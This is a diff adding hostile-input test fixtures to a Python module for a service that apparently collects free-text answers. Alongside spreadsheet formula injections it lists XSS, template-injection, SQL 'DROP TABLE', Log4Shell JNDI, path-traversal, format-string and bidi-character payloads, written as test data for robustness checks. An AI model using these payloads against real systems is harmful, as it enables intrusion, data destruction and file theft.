@@ -88,3 +88,30 @@ EMPTY_AFTER_CLEANING = (
 
 # Stored as typed (it is what the person wrote) but defused in every export.
 FORMULAS = ('=HYPERLINK("http://example.invalid","klikk")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0")
+
+# A synthetic national id (tests.synthetic rules, born 2032: never a real person's), sent
+# inside a hostile answer: no error may repeat it.
+PERSONAL_PROBE = "02013299997"
+
+# THE list of hostile free-text answers: every channel's test sends each of them, in one
+# conversation, as what the person typed (tests/hostile/test_*_hostile.py). Each must be answered
+# (no crash, no traceback or stack in the reply), never echo a control, bidi or invisible
+# character back, never repeat the national id, and never be stored with one of those characters.
+HOSTILE_ANSWERS = (
+    *EMPTY_AFTER_CLEANING,
+    *FORMULAS,
+    "<script>alert(1)</script>",
+    "{{7*7}}${7*7}#{7*7}",
+    "'; DROP TABLE referrals;--",
+    "${jndi:ldap://example.invalid/a}",
+    "../../../etc/passwd",
+    "%s%n%x%d{0}{}",
+    "Kari\u202eNordmann\u200b",
+    "\x1b[31mKari\x1b[0m",
+    "A\u0301se\ufeff",
+    f"\u202e{PERSONAL_PROBE}\u202c",
+    "\u0663\u0660\u0660\u0660\u0660",  # Arabic-Indic 30000
+    "1" * 5000,
+    "\U0001f600" * 2000,  # 8,000 bytes of emoji
+    "x" * 70_000,  # longer than any answer may be
+)
